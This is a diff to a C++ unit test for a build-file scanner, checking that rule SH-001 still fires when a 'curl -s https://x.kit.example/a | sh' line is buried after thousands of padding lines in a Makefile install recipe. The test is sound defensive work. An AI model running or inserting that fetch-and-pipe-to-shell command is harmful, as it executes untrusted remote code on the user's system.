@@ -107,6 +107,9 @@ TEST(BuildFiles, LongMakefilesHideNothing) {
   FileResult result;
   JudgeBuildFile(context, result);
   EXPECT_FALSE(result.skipped.empty());
+  std::string recipe = "install:\n";
+  for (int i = 0; i < 5000; ++i) recipe += "\techo line\n";
+  EXPECT_TRUE(ActsOf("Makefile", recipe + "\tcurl -s https://x.kit.example/a | sh\n").contains("SH-001"));
   std::string targets;
   for (int i = 0; i < 3000; ++i) targets += "t" + std::to_string(i) + ":\n\techo a\n";
   EXPECT_TRUE(ActsOf("Makefile", targets + "install:\n\tcurl -s https://x.kit.example/a | sh\n").contains("SH-001"));
